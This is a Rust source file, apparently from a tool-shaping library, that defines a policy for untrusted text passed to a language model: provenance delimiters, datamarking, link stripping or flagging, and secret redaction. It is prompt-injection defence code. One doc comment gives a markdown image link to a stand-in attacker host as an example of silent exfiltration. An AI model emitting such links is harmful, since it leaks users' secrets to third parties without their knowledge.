//! The untrusted-text policy of a tool: how values are marked in the text channel
//! ([`Provenance`]), what happens to links ([`UrlPolicy`]) and datamarking.

/// How untrusted values are marked in the text channel.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, serde::Serialize, serde::Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum Provenance {
    /// In prose and table text, each value between `«` and `»`, with the sources named once
    /// in the first line (`«…» is untrusted text from search_tickets.subject`); a `«` or `»`
    /// inside a value is neutralised, so a value cannot close its delimiter. Two tokens a
    /// value instead of about fourteen. In JSON (a JSON text channel, as in the structured
    /// channel under every policy but [`Off`](Provenance::Off)), the envelope names the
    /// untrusted fields once (`"untrusted": ["subject"]`) and each value is neutralised,
    /// untagged: no token a value.
    #[default]
    Compact,
    /// `<untrusted source="tool.field">…</untrusted>` around every value of the text channel,
    /// JSON included.
    Tag,
    /// `<untrusted-3f9a… source="tool.field">…</untrusted-3f9a…>`, with the call's random
    /// nonce, so content cannot guess the closing delimiter.
    RandomTag,
    /// No delimiter and no `untrusted` key in JSON; values are not neutralised (sanitising,
    /// link policy and caps still apply).
    Off,
}

/// What happens to links in untrusted text: http(s), ftp and `www.` URLs, markdown links and
/// images (inline and reference definitions) and HTML tags that load or link (`<img>`, `<a>`,
/// `<iframe>`, …). Markdown image links are a known exfiltration path: a client that renders
/// `![](https://attacker/?q=secret)` sends the secret without a click.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, serde::Serialize, serde::Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum UrlPolicy {
    /// Links are left as written.
    #[default]
    Keep,
    /// The text stays, the address goes; the host is named so the model can still say where
    /// it pointed: `[docs](https://a.example/x)` → `docs [link removed: a.example]`,
    /// `![chart](https://b.example/c.png)` → `chart [image removed: b.example]`, a bare URL →
    /// `[link removed: a.example]`.
    Flag,
    /// Links and images are removed, alt text included; a link's text stays (`[docs](…)` →
    /// `docs`).
    Strip,
}

/// The untrusted-text policy of a tool, loadable from configuration:
///
/// ```
/// use toolshape::untrusted::{Provenance, UntrustedPolicy, UrlPolicy};
///
/// let policy: UntrustedPolicy =
///     toml::from_str("provenance = \"random_tag\"\nurls = \"flag\"\ndatamark = \"ˆ\"").unwrap();
/// assert_eq!(policy.provenance, Provenance::RandomTag);
/// assert_eq!(policy.urls, UrlPolicy::Flag);
/// assert_eq!(policy.datamark, Some('ˆ'));
/// assert!(toml::from_str::<UntrustedPolicy>("provenence = \"tag\"").is_err());
/// ```
#[derive(Debug, Clone, Default, PartialEq, Eq, serde::Serialize, serde::Deserialize)]
#[serde(default, deny_unknown_fields)]
pub struct UntrustedPolicy {
    /// How values are marked in the text channel.
    pub provenance: Provenance,
    /// Datamarking (spotlighting) in the text channel: every space in the content is replaced
    /// by this character (`"ˆ"`, U+02C6, is the usual choice), so the model can tell content
    /// from instructions word by word. `None` (the default) leaves spaces alone.
    pub datamark: Option<char>,
    /// What happens to links, in both channels.
    pub urls: UrlPolicy,
}

/// What is redacted from the answers a layer shapes (a harness, so the proxy): each finding
/// replaced by a marker naming what was there (`[redacted: github-pat]`), counted in the
/// harness's report and in the answer's `_meta` (`io.toolshape/redacted`). Loadable from
/// configuration (`redact = { emails = true }` in a tool's or the defaults' table):
///
/// ```
/// use toolshape::untrusted::Redaction;
///
/// let policy: Redaction = toml::from_str("emails = true").unwrap();
/// assert_eq!(policy, Redaction { secrets: true, emails: true, phones: false });
/// assert_eq!(Redaction::default(), Redaction { secrets: true, emails: false, phones: false });
/// assert!(toml::from_str::<Redaction>("email = true").is_err());
/// ```
#[derive(Debug, Clone, Copy, PartialEq, Eq, serde::Serialize, serde::Deserialize)]
#[serde(default, deny_unknown_fields)]
pub struct Redaction {
    /// Secrets in their known formats (gitleaks' rules: provider keys and tokens, private key
    /// blocks, JWTs, connection strings, `password = …` in text) and high-entropy values under
    /// key-like names in JSON (`client_secret`, `apiKey`). On by default.
    pub secrets: bool,
    /// E-mail addresses. Off by default: an address is often what a tool takes next.
    pub emails: bool,
    /// Phone numbers written as people write them (`+44 20 7946 0958`, `(555) 123-4567`),
    /// not runs of digits. Off by default.
    pub phones: bool,
}

impl Default for Redaction {
    fn default() -> Self {
        Redaction {
            secrets: true,
            emails: false,
            phones: false,
        }
    }
}
